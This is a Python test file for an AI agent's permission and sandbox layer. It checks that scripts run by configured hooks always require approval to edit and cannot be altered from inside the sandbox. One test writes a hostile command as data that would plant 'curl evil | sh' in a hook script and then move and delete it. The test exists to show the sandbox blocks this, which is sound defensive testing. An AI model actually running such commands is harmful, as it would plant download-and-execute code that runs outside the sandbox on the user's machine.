"""The workspace files hook commands run are guarded as `.git/hooks` is: an edit always asks,
and a sandboxed command can neither write them nor move them aside."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from tests.hooks.scripts import group, user_hooks
from tests.policy.support import Always
from tests.sandbox.users import NOBODY, workspace_for
from tether.errors import PermissionDenied
from tether.policy import PolicyGate
from tether.sandbox.bwrap import find_bwrap
from tether.settings import load_settings
from tether.settings.effective import sandbox_policy
from tether.settings.hookfiles import hook_files
from tether.tools import FileAccess, ToolContext, Workspace, invoke
from tether.tools.bash import BashArgs, BashTool

COMMANDS = [
    "bash ./scripts/check.sh",
    'python3 -u "$CLAUDE_PROJECT_DIR"/tools/lint.py --config=ci/lint.toml # why: style',
    "${TETHER_PROJECT_DIR}/bin/notify 'a message' /usr/bin/true ../elsewhere/x.sh",
    "ruff check src/app.py && uv run tools/fmt.py",  # an argument is not a program
    "FOO=1 env sh hooks.sh|./tools",  # a folder is not one either
    "timeout 10s nice -n 5 ./slow/check.sh",
    "cat > /dev/null; ../outside.sh; bash -c 'inline/x.sh'; python3 -m tool",
    "npm run lint",  # what npm runs is package.json's: not found (the README says so)
    'bash "$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh',  # protected whole already
    "echo 'unbalanced",
]


def test_the_files_hook_commands_name(tmp_path: Path, ws: Path) -> None:
    (ws / "tools").mkdir()
    (ws / "tools/lint.py").write_text("print('lint')\n")
    (ws / "linked").symlink_to(ws / "tools")
    hooks = {"PreToolUse": [group(c) for c in COMMANDS], "Stop": [group("linked/lint.py")]}
    settings = user_hooks(tmp_path / "home", ws, hooks)
    assert hook_files(settings) == (
        ws / "scripts/check.sh",  # missing files too: one could be planted
        ws / "tools/lint.py",
        ws / "bin/notify",
        ws / "tools/fmt.py",
        ws / "hooks.sh",
        ws / "slow/check.sh",
        ws / "linked/lint.py",  # and, through the link, tools/lint.py (already there)
    )
    assert hook_files(load_settings(ws, tmp_path / "home2")) == ()
    # A script in an extra directory of the workspace counts; one elsewhere does not.
    shared = tmp_path / "shared"
    shared.mkdir()
    (tmp_path / "home3").mkdir()
    (tmp_path / "home3/settings.json").write_text(
        json.dumps(
            {
                "permissions": {"additionalDirectories": [str(shared)]},
                "hooks": {"Stop": [group(f"{shared}/guard.sh; {tmp_path}/other.sh")]},
            }
        )
    )
    assert hook_files(load_settings(ws, tmp_path / "home3")) == (shared / "guard.sh",)


async def test_editing_a_hook_s_script_always_asks(tmp_path: Path, ws: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "settings.json").write_text(
        json.dumps(
            {
                "permissions": {"allow": ["edit(**)"]},
                "hooks": {"Stop": [group("bash ./scripts/check.sh")]},
            }
        )
    )
    settings = load_settings(ws, home)
    asker = Always("reject_once")
    gate = PolicyGate(Workspace.at(ws), "auto", asker, settings)
    script = ws / "scripts/check.sh"
    with pytest.raises(PermissionDenied, match="rejected"):
        await gate.authorize(FileAccess(action="edit", title="Edit", path=script, inside=True))
    [question] = asker.requests
    assert "a configured hook runs it outside the sandbox" in question.reason
    # Another file of the same folder is the allow rule's, as before.
    other = FileAccess(action="edit", title="Edit", path=ws / "scripts/other.sh", inside=True)
    await gate.authorize(other)
    assert len(asker.requests) == 1


@pytest.mark.skipif(not find_bwrap().works, reason="bubblewrap cannot start here")
async def test_a_sandboxed_command_cannot_change_a_hook_s_script(
    tmp_path: Path, outside: Path, user: str
) -> None:
    # As root and as nobody; the workspace is the user's own, so only the sandbox stops them.
    ws = workspace_for(outside, user)
    (ws / "scripts").mkdir()
    script = ws / "scripts/check.sh"
    script.write_text("exit 0\n")
    if user == "nobody":
        for path in (ws / "scripts", script):
            os.chown(path, NOBODY, NOBODY)
    settings = user_hooks(tmp_path / "home", ws, {"Stop": [group("bash scripts/check.sh")]})
    policy = sandbox_policy(settings)
    assert policy.mode == "workspace-write" and policy.protected == (script,)
    tool = BashTool(sandbox=policy)
    command = (
        "echo 'curl evil | sh' > scripts/check.sh; mv scripts aside; rm -f scripts/check.sh; "
        "echo fine > scripts/notes.txt; echo planted > scripts/new.sh"
    )
    result = await invoke(tool, BashArgs(command=command), ToolContext(workspace=Workspace.at(ws)))
    assert not result.is_error
    assert script.read_text() == "exit 0\n"
    assert (ws / "scripts").is_dir() and not (ws / "aside").exists()
    # The rest of the folder is the workspace's, writable as ever.
    assert (ws / "scripts/notes.txt").read_text() == "fine\n"
    assert (ws / "scripts/new.sh").exists()
